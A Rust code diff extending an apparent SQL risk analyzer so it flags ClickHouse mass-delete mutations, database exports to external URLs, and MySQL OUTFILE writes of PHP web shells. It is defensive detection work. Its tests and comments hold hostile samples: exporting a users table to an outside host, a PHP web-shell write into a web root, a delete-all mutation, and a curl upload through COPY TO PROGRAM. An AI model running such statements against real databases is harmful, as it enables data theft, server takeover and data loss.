@@ -1033,7 +1033,17 @@ fn destructive_sql(s: &str) -> bool {
                             return false;
                         }
                     }
-                    if up[i] == "DELETE" {
+                    // ClickHouse's mutation `ALTER TABLE t DELETE WHERE …` (ClickHouse docs,
+                    // "ALTER TABLE … DELETE Statement"): every row when the condition always
+                    // holds (checked above; the statement cannot be written without WHERE).
+                    let mutation = up[i] == "DELETE"
+                        && i >= 3
+                        && up[i - 3] == "ALTER"
+                        && up[i - 2] == "TABLE"
+                        && up[i..].iter().any(|w| w == "WHERE");
+                    if mutation {
+                        j = i - 1;
+                    } else if up[i] == "DELETE" {
                         if up.get(j).is_none_or(|w| w != "FROM") {
                             return false;
                         }
@@ -1209,6 +1219,54 @@ pub(crate) fn admin_sql(s: &str) -> Vec<&'static str> {
     out
 }
 
+/// The URLs a statement makes the database server send rows to: ClickHouse's table functions
+/// written into (`INSERT INTO FUNCTION url('…')`, `s3(…)`, `s3Cluster(…)`, `gcs(…)`,
+/// `azureBlobStorage(…)`, `hdfs(…)`; ClickHouse docs "Table Functions"), DuckDB's `COPY … TO
+/// 's3://…'|'https://…'`, MySQL's `SELECT … INTO OUTFILE S3 '…'` (Aurora). At most 4.
+pub(crate) fn sql_export_urls(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let upper = s.to_ascii_uppercase();
+    let squeezed: String = upper.split_whitespace().collect::<Vec<_>>().join(" ");
+    let exports = squeezed.contains("INTO FUNCTION")
+        || squeezed.contains("INTO OUTFILE S3")
+        || (squeezed.contains("COPY ") && squeezed.contains(" TO "));
+    if !exports {
+        return out;
+    }
+    for lit in crate::analyzer::quoted_literals(s) {
+        let l = lit.to_ascii_lowercase();
+        if out.len() < 4
+            && (l.starts_with("http://")
+                || l.starts_with("https://")
+                || l.starts_with("s3://")
+                || l.starts_with("gs://")
+                || l.starts_with("hdfs://"))
+        {
+            out.push(lit.to_string());
+        }
+    }
+    out
+}
+
+/// Whether a statement writes a server-side file holding code a web server runs: `SELECT
+/// '<?php system($_GET[…]) ?>' INTO OUTFILE|DUMPFILE '/var/www/…/x.php'` (MySQL `SELECT …
+/// INTO`; MITRE ATT&CK T1505.003 web shell through a database).
+pub(crate) fn sql_writes_web_code(s: &str) -> bool {
+    let upper = s.to_ascii_uppercase();
+    (upper.contains("INTO OUTFILE") || upper.contains("INTO DUMPFILE"))
+        && [
+            "<?PHP",
+            "<?=",
+            "<%",
+            "SYSTEM(",
+            "EXEC(",
+            "PASSTHRU(",
+            "SHELL_EXEC(",
+        ]
+        .iter()
+        .any(|m| upper.contains(m))
+}
+
 /// The commands of `COPY … TO|FROM PROGRAM 'CMD'` statements in `s` (PostgreSQL COPY: CMD is
 /// run by the server's shell; `''` in the literal is one quote), each with whether the table's
 /// rows are its stdin (`TO PROGRAM`).
@@ -1310,6 +1368,21 @@ pub(super) fn sql_carriers(a: &mut Analyzer, name: &str, inv: &Inv) {
     {
         a.infra(k, &inv.evidence);
     }
+    sql_exports(a, name, &texts, &inv.evidence);
+}
+
+/// Rows a statement has the server send to a URL ([`sql_export_urls`]): uploads of
+/// `<database rows>`; a statement that writes web code into a server file ([`sql_writes_web_code`]):
+/// the `sql_web_shell` infra fact.
+fn sql_exports<T: AsRef<str>>(a: &mut Analyzer, name: &str, texts: &[T], ev: &str) {
+    for t in texts {
+        for u in sql_export_urls(t.as_ref()) {
+            a.upload(name, &u, Some("<database rows>".to_string()), false, ev);
+        }
+        if sql_writes_web_code(t.as_ref()) {
+            a.infra("sql_web_shell", ev);
+        }
+    }
 }
 
 fn sql(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
@@ -1400,6 +1473,7 @@ fn sql(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
     {
         a.infra(k, &inv.evidence);
     }
+    sql_exports(a, name, &texts, &inv.evidence);
     // `COPY … TO PROGRAM 'curl -d @- URL'`: the command runs on the server with the table's
     // rows as its stdin; analysed as a command (its uploads and fetches are this command's).
     for t in &texts {
@@ -2356,6 +2430,35 @@ mod tests {
             "ALTER DATABASE a SET DATA_RETENTION_TIME_IN_DAYS = 7"
         ));
         assert!(!destructive_sql("SELECT * FROM drops"));
+        assert!(destructive_sql(
+            "ALTER TABLE analytics.events DELETE WHERE 1 = 1"
+        ));
+        assert!(!destructive_sql(
+            "ALTER TABLE analytics.events DELETE WHERE ts < now() - INTERVAL 90 DAY"
+        ));
+        assert!(!destructive_sql("ALTER TABLE tmp_events DELETE WHERE 1"));
+        assert_eq!(
+            sql_export_urls(
+                "INSERT INTO FUNCTION url('https://c.example.io/in', 'CSV') SELECT * FROM users"
+            ),
+            vec!["https://c.example.io/in".to_string()]
+        );
+        assert_eq!(
+            sql_export_urls(
+                "insert into function s3('https://s3.amazonaws.com/b/u.csv', 'CSV') select 1"
+            ),
+            vec!["https://s3.amazonaws.com/b/u.csv".to_string()]
+        );
+        assert!(
+            sql_export_urls("SELECT count() FROM url('https://example.com/d.csv', 'CSV')")
+                .is_empty()
+        );
+        assert!(sql_writes_web_code(
+            "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/h.php'"
+        ));
+        assert!(!sql_writes_web_code(
+            "SELECT * FROM t INTO OUTFILE '/tmp/t.csv'"
+        ));
         assert!(!destructive_sql("\\x"));
     }
 
